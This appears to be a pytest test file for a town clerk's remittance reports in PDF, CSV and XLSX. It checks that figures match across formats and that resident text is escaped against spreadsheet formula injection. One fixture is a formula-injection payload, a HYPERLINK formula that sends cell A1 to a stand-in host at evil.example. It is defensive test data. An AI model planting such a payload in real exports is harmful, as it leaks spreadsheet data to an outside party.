"""The remittance's writers from literal figures: Letter pages numbered "Page N of M", the
same figures in each file, and text from residents never run as a spreadsheet formula."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

import pytest

from clerkdesk.reports.cells import safe_text
from clerkdesk.reports.documents import OfficeHeading
from clerkdesk.reports.remittance_csv import render_remittance_csv
from clerkdesk.reports.remittance_data import (
    Movement,
    NumberGap,
    NumberRange,
    Remittance,
    Retention,
    Turnover,
    VoidRow,
    certification_text,
)
from clerkdesk.reports.remittance_pdf import render_remittance_pdf
from clerkdesk.reports.remittance_xlsx import render_remittance_xlsx
from pdf_support import page_sizes, page_texts
from remittance_files import csv_figures, csv_rows, pdf_figures, xlsx_figures, xlsx_rows

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HEADING = OfficeHeading("Town of Westborough", "Office of the Town Clerk", "Bylaw 19")
D = Decimal


def literal(voids: int = 1) -> Remittance:
    void_rows = tuple(
        VoidRow(
            f"2026-{n + 1:06d}",
            HOSTILE if n == 0 else "-Jane Doe",
            dt.date(2026, 10, 30),
            dt.date(2026, 11, 3),
            "ann",
            "@SUM(1+1)" if n == 0 else "+wrong dog",
            D("15.00"),
        )
        for n in range(voids)
    )
    voided = D("15.00") * voids
    return Remittance(
        heading=HEADING,
        first_day=dt.date(2026, 11, 1),
        last_day=dt.date(2026, 11, 30),
        period_label="November 2026",
        made_at=dt.datetime(2026, 12, 1, 14, 0, tzinfo=dt.UTC),
        receipt_count=40,
        gross=D("1234.50"),
        accounts=(
            Movement("01-240-4321", "01-240-4321", D("1200.00"), voided, 50, 38),
            Movement("=1+2", "=1+2", D("34.50"), D("0.00"), 3, 0),
        ),
        fee_codes=(
            Movement("dog_license", "Dog license", D("1200.00"), voided, 40, 38),
            Movement("late_fee", "Late fee", D("34.50"), D("0.00"), 3, 0),
        ),
        tenders=(
            Movement("cash", "Cash", D("234.50"), D("0.00"), 12),
            Movement("check", "Check", D("1000.00"), voided, 28),
        ),
        voids=void_rows,
        number_ranges=(
            NumberRange(
                2026,
                100,
                141,
                40,
                (
                    NumberGap(2026, 120, 120, "posted to business day 12/01/2026", True),
                    NumberGap(2026, 130, 130, "unexplained — missing from the ledger", False),
                ),
            ),
        ),
        retention=Retention(D("0.75"), 38, "MGL c.140 §147"),
        turnover=(Turnover("2026-11", "TR-1101", dt.datetime(2026, 12, 2, tzinfo=dt.UTC), "ann"),),
        certification=certification_text(HEADING, "November 2026"),
    )


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Jane = Doe", "Jane = Doe"),
        ("", ""),
    ],
)
def test_formula_starts_get_an_apostrophe(text: str, shown: str) -> None:
    assert safe_text(text) == shown


def test_figures_agree_in_every_file() -> None:
    r = literal()
    assert r.net == D("1219.50") and r.retained == D("28.50") and r.due == D("1191.00")
    for figures in (
        pdf_figures(render_remittance_pdf(r)),
        csv_figures(render_remittance_csv(r)),
        xlsx_figures(render_remittance_xlsx(r)),
    ):
        assert (figures.gross, figures.voided, figures.net, figures.due) == (
            r.gross,
            r.voided,
            r.net,
            r.due,
        )
        assert figures.tenders == {"Cash": D("234.50"), "Check": D("985.00")}
        assert figures.codes == {"dog_license": D("1185.00"), "late_fee": D("34.50")}


def test_no_text_cell_starts_a_formula_in_csv_or_xlsx() -> None:
    r = literal(voids=3)
    for rows in (csv_rows(render_remittance_csv(r)), xlsx_rows(render_remittance_xlsx(r))):
        texts = [c for row in rows for c in row if isinstance(c, str)]
        assert any(t.startswith("'=HYPERLINK") for t in texts)
        assert any(t.startswith("'=1+2") for t in texts)
        assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_xlsx_amounts_are_numbers_with_two_places() -> None:
    import io

    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(render_remittance_xlsx(literal()))).active
    assert sheet is not None
    amounts = [
        c for row in sheet.iter_rows(min_row=2, min_col=5, max_col=7) for c in row if c.value
    ]
    assert amounts and all(isinstance(c.value, int | float) for c in amounts)
    assert {c.number_format for c in amounts} == {"#,##0.00"}
    formulas = [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_csv_amounts_are_plain() -> None:
    rows = csv_rows(render_remittance_csv(literal()))
    (gross,) = [r for r in rows if r[:2] == ["summary", "Gross receipts"]]
    assert gross[-1] == "1234.50"


def test_pdf_is_letter_numbered_and_says_everything() -> None:
    data = render_remittance_pdf(literal(voids=60))
    sizes = page_sizes(data)
    assert len(sizes) >= 2 and set(sizes) == {(612.0, 792.0)}
    texts = page_texts(data)
    for n, text in enumerate(texts, start=1):
        assert f"Page {n} of {len(texts)}" in text
    whole = " ".join(" ".join(texts).split())
    for words in (
        "Remittance to the Treasurer",
        "November 2026",
        "unexplained — missing from the ledger",
        "2026-000130",
        "TR-1101",
        "0.75 a license × 38 licenses",
        "Net due to the treasurer",
        "MGL c.140 §147",
        "Received by the Treasurer",
        "paid by =HYPERLINK(",
    ):
        assert words in whole


def test_empty_period_prints() -> None:
    r = Remittance(
        HEADING,
        dt.date(2026, 11, 1),
        dt.date(2026, 11, 30),
        "November 2026",
        dt.datetime(2026, 12, 1, tzinfo=dt.UTC),
        0,
        D("0.00"),
        (),
        (),
        (),
        (),
        (),
        None,
        (),
        certification_text(HEADING, "November 2026"),
    )
    whole = " ".join(page_texts(render_remittance_pdf(r)))
    assert "No receipt was voided" in whole and "Page 1 of 1" in whole
    assert csv_figures(render_remittance_csv(r)).net == 0
